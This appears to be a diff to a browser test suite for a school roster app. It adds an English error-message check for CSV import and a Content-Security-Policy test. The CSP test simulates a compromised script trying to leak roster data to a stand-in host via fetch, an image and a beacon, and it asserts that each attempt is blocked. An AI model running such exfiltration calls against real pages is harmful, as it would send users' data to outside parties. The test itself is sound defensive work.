@@ -317,7 +317,44 @@ test('a CSV with bad rows lists each problem by row and column and changes nothi
   await page.setInputFiles('#import-roster', { name: 'notes.csv', mimeType: 'text/csv', buffer: Buffer.from('hello,world\n1,2\n') });
   await page.waitForFunction(() => /学校代码|school_id/.test(document.querySelector('#import-problems, #import-status')?.textContent ?? ''));
   assert.deepEqual(await appState(page), before);
+
+  // In English, the same file's problems are reported in English.
+  await page.click('#lang-toggle');
+  await page.waitForSelector('html[lang="en"]');
+  await openDrawer(page, 'import');
+  await page.setInputFiles('#import-roster', { name: 'bad-roster.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) });
+  await page.waitForFunction(() => document.querySelector('#import-problems')?.textContent.includes('bad-roster.csv'));
+  const english = await page.$$eval('#import-problems tr[data-row]', (trs) => trs.map((tr) => tr.querySelector('td:last-child').textContent));
+  assert.equal(english.length, 3);
+  // English apart from the quoted cell ("五") and the Chinese level names
+  // given with the English ones (primary (小学)), which the file may use.
+  for (const reason of english) assert.ok(!/[\u4e00-\u9fff]/.test(reason.replace(/"[^"]*"|\([\u4e00-\u9fff]+\)/g, '')), `an English reason: ${reason}`);
+  assert.deepEqual(await appState(page), { ...before, version: (await appState(page)).version });
   await assertClean(assert, app);
+  await context.close();
+});
+
+test('the Content-Security-Policy blocks a request to another origin before it leaves the page', async () => {
+  const app = await openApp(env);
+  const { page, context } = app;
+  // What a compromised script would try: fetch, an image, a beacon.
+  const outcome = await page.evaluate(async () => {
+    const violations = [];
+    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
+    const fetched = await fetch('https://example.com/leak?roster=1').then(() => 'sent', () => 'blocked');
+    const img = new Image();
+    img.src = 'https://example.com/pixel.png';
+    const beacon = navigator.sendBeacon('https://example.com/beacon', 'x');
+    await new Promise((ok) => setTimeout(ok, 300));
+    return { fetched, beacon, violations };
+  });
+  assert.equal(outcome.fetched, 'blocked');
+  assert.ok(outcome.violations.includes('connect-src'), `connect-src violation: ${outcome.violations}`);
+  assert.ok(outcome.violations.includes('img-src'), `img-src violation: ${outcome.violations}`);
+  assert.deepEqual(app.foreignRequests, [], 'nothing reached the network');
+  assert.ok(app.blockedRequests.includes('https://example.com/pixel.png'), `the image was blocked by the policy: ${app.blockedRequests}`);
+  // The only errors are the browser's own reports of the blocked attempts.
+  assert.ok(app.problems.every((p) => /Content Security Policy|Failed to fetch/i.test(p)), app.problems.join('\n'));
   await context.close();
 });
 
